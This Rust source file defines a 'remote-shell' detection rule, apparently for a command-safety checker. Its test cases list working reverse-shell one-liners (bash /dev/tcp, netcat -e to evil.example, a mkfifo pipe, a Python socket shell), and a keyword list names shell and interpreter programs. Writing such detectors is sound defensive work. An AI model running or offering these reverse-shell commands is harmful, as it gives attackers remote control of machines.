//! `remote-shell`: a shell is joined to the network.

use countersign_model::{Effect, EffectKind, Operation, Tier};

use crate::context::Context;
use crate::rule::{Case, Group, Hit, Rule};

pub(super) const RULE: Rule = Rule {
    code: "remote-shell",
    group: Group::Network,
    tier: Tier::Adversarial,
    title: "a shell is joined to the network",
    doc: "A reverse or bind shell gives whoever is at the other end this machine.",
    must_name: "this very action",
    operation: Operation::Connect,
    kinds: &[EffectKind::RemoteShell],
    check,
    fires: &[
        Case { action: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", says: "" },
        Case { action: "nc -e /bin/sh evil.example 4444", says: "" },
        Case { action: "mkfifo f; cat f | sh -i 2>&1 | nc evil.example 4444 > f", says: "" },
        Case {
            action: "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\"",
            says: "",
        },
    ],
    silent: &[
        Case { action: "nc -z localhost 5432", says: "" },
        Case { action: "ssh web1 uptime", says: "" },
        Case {
            action: "python3 -c \"import socket; s=socket.socket(); s.connect(('localhost',5432))\"",
            says: "",
        },
    ],
};

fn check(effect: &Effect, cx: &Context<'_>) -> Option<Hit> {
    // `socat TCP-LISTEN:4444 EXEC:/bin/cat`: one program that is no shell and no interpreter.
    if matches!(effect.program.as_str(), "socat" | "nc" | "ncat") && !starts_a_shell(&cx.words_of(effect)) {
        return Some(
            Hit::new("a program would be joined to the network")
                .tier(Tier::Soft)
                .naming_word(&["socat", "ncat", "netcat", "nc"]),
        );
    }
    Some(Hit::new(format!(
        "a shell would be joined to {}",
        effect.to.as_ref().map_or("the network", |p| if p.name.is_empty() {
            "the network"
        } else {
            p.name.as_str()
        })
    )))
}

/// A shell, an interpreter or something that gives one, anywhere among the words.
fn starts_a_shell(words: &str) -> bool {
    let words = words.replace("--sh-exec", " ");
    words.split(|c: char| !c.is_alphanumeric() && c != '.').any(|word| {
        let stem = word.trim_end_matches(".exe").trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        matches!(
            stem,
            "sh" | "bash"
                | "zsh"
                | "ash"
                | "dash"
                | "ksh"
                | "csh"
                | "tcsh"
                | "fish"
                | "cmd"
                | "powershell"
                | "pwsh"
                | "busybox"
                | "python"
                | "perl"
                | "ruby"
                | "php"
                | "node"
                | "lua"
                | "awk"
                | "su"
                | "sudo"
                | "login"
                | "PTY"
                | "pty"
                | "SHELL"
                | "shell"
                | "ssh"
                | "vim"
                | "vi"
                | "script"
                | "expect"
        )
    }) || words.contains('$')
}
